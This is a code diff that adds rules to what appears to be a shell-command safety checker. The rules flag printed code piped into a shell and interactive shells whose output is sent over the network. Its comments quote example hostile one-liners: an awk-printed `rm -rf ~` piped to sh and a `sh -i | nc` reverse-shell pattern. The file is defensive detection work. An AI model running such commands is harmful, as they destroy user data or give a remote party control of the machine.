@@ -1,5 +1,6 @@
 import type { Effect } from '../../../programs/effect';
 import type { Invocation, Stream, Unread } from '../../../shell/invocation';
+import { readCommand } from '../../../shell/read-command';
 import { resolvePath } from '../../../shell/paths';
 import { shellNames } from '../../../programs/shells';
 import { streamIn } from '../../../shell/reader/words';
@@ -48,6 +49,44 @@ export const foreignCodeRule: LineRule = {
   },
 };
 
+/** Strings in code, and what a substitution of sed puts in. */
+function fragmentsOf(text: string): readonly string[] {
+  const quoted = [...text.matchAll(/"((?:[^"\\]|\\.){5,2000})"|'((?:[^'\\]|\\.){5,2000})'/g)].map(
+    (found) => found[1] ?? found[2] ?? '',
+  );
+  const put = [...text.matchAll(/\bs([/|#,])(?:(?!\1).)*\1((?:(?!\1).){5,2000})\1/g)].map((found) => found[2] ?? '');
+  return [...put, ...quoted, ...quoted.flatMap((one) => (/["']/.test(one) ? fragmentsOf(one) : []))];
+}
+
+/** Every text that may take part in what a shell reads from this pipe. */
+function textsBefore({ pipeline }: Invocation, all: readonly Invocation[]): readonly string[] {
+  return all
+    .filter((one) => one.pipeline.id === pipeline.id && one.pipeline.position < pipeline.position)
+    .flatMap(({ args, stdin }) => [
+      ...args.flatMap(({ text }) => [text, ...fragmentsOf(text)]),
+      ...(stdin.kind === 'text' ? [stdin.text] : []),
+    ]);
+}
+
+/** `awk 'BEGIN { print "rm -rf ~" }' | sh`: what a program prints for a shell is judged by the text it has to print. */
+export const printedCodeRule: LineRule = {
+  id: 'run-printed-code',
+  level: 'standard',
+  checkLine(reading, view, judge) {
+    const hidden = reading.unread.filter(({ stream, runner: by }) => stream.kind === 'unknown' && runsText.test(by));
+    if (hidden.length === 0) return undefined;
+    const fed = reading.invocations.filter(({ program, stdin }) => program !== undefined && shellNames.has(program) && stdin.kind === 'unknown'); // prettier-ignore
+    const texts = [...hidden.flatMap(({ text }) => fragmentsOf(text)), ...fed.flatMap((one) => textsBefore(one, reading.invocations))]; // prettier-ignore
+    for (const text of new Set(texts.filter((one) => /\w\s+\S/.test(one)).slice(0, 40))) {
+      const refused = judge(readCommand(text, { cwd: view.roots[0] ?? '/', home: view.home }), view);
+      if (refused !== undefined) return objection(text.trim().slice(0, 160), `A shell runs what is printed here: ${refused.why}`, refused.instead); // prettier-ignore
+    }
+    return undefined;
+  },
+};
+
+const runsText = /^(?:eval|source|\.|(?:ba|z|da|k|fi|a)?sh)(?:\s|$)/;
+
 const shellWay = 'Nothing in a project needs a shell for the network; ask the person.';
 
 const shellWhy = 'It hands a shell to whoever is at the other end of the network.';
@@ -69,6 +108,32 @@ function redirectedShell(invocation: Invocation): Objection | undefined {
 export const remoteShellRules: readonly InvocationRule[] = [
   { id: 'remote-shell', level: 'standard', programs: [...shellNames], check: redirectedShell },
 ];
+
+/** `cat pipe | sh -i | nc host port`: orders come from a pipe, answers leave through the network. */
+export const pipedShellRule: LineRule = {
+  id: 'remote-shell',
+  level: 'standard',
+  checkLine({ invocations }) {
+    for (const shell of invocations) {
+      if (
+        shell.program === undefined ||
+        !shellNames.has(shell.program) ||
+        shell.stdin.kind === 'text' ||
+        shell.stdin.kind === 'inherited'
+      )
+        continue;
+      if (!shell.args.every(({ text }) => /^-[is]+$/.test(text))) continue;
+      const sender = invocations.find(
+        ({ pipeline, effects }) =>
+          pipeline.id === shell.pipeline.id &&
+          pipeline.position > shell.pipeline.position &&
+          effects?.some(({ kind }) => kind === 'send') === true,
+      );
+      if (sender !== undefined) return objection(written(sender), shellWhy, shellWay);
+    }
+    return undefined;
+  },
+};
 
 export const remoteShellEffectRules: readonly EffectRule[] = [
   effectRule('remote-shell', 'send', ({ shell }, invocation) =>
